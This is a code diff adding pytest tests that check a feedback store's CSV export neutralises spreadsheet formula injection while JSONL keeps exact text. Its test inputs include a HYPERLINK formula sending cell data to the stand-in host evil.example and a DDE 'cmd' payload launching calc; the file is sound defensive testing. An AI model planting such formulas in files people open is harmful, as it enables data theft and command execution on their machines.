@@ -177,3 +177,30 @@ def test_rating_an_answer_again_changes_its_row(tmp_path: Path) -> None:
         store.update(row + 1, "up")
     with pytest.raises(FeedbackError):
         store.update(row, "meh")
+
+
+@pytest.mark.parametrize("typed", ['=HYPERLINK("https://evil.example/?d="&A1,"详情")', "+1+cmd|' /C calc'!A0",
+                                   "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1", "＝1+1"])
+def test_csv_export_shows_formulas_as_text(tmp_path: Path, typed: str) -> None:
+    """A comment or question typed on the public page that starts like a formula ran when an admin opened the CSV
+    export in Excel/WPS: every such cell now starts with ' (OWASP CSV Injection); JSONL keeps the exact text."""
+    answer = Answer(question=typed, query=typed, parts=(Paragraph(typed),), answerable=False)
+    with FeedbackStore(tmp_path / "f.sqlite") as store:
+        store.record(answer, "down", typed, session=typed)
+        table, jsonl = io.StringIO(newline=""), io.StringIO()
+        store.export("csv", table)
+        store.export("jsonl", jsonl)
+    (row,) = csv.DictReader(io.StringIO(table.getvalue(), newline=""))
+    for column in ("comment", "question", "query", "answer", "session"):
+        assert row[column] == "'" + typed, (column, row[column])
+    assert json.loads(jsonl.getvalue())["comment"] == typed
+
+
+def test_csv_export_leaves_ordinary_text_alone(tmp_path: Path) -> None:
+    """Only formula-like cells are marked: a comment with = or - inside it is exported as typed."""
+    with FeedbackStore(tmp_path / "f.sqlite") as store:
+        store.record(PLAIN, "up", "第一条-第三条 = 很清楚")
+        table = io.StringIO(newline="")
+        store.export("csv", table)
+    (row,) = csv.DictReader(io.StringIO(table.getvalue(), newline=""))
+    assert row["comment"] == "第一条-第三条 = 很清楚" and row["rating"] == "up"
